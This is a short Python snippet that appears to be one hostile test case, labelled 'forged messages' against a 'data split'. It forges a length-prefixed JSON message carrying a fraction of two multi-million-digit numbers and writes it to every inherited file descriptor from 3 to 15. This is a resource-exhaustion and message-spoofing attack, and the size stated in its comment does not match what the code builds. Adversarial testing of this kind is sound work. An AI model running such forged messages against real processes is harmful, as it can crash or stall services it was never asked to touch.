# class: forged messages
# against: data split
# A fraction of two coprime numbers of ten million bits.
import os
def f(kind, n):
    a = '0x' + '3' * 4000000; b = '0x' + '7f31' * 1000000
    m = ('{"q":0,"v":{"fraction":["%s","%s"]}}' % (a, b)).encode()
    m = len(m).to_bytes(4, 'little') + m
    for fd in range(3, 16):
        try:
            n, v = 0, memoryview(m)
            while n < len(m): n += os.write(fd, v[n:])
        except OSError: pass
    return 0
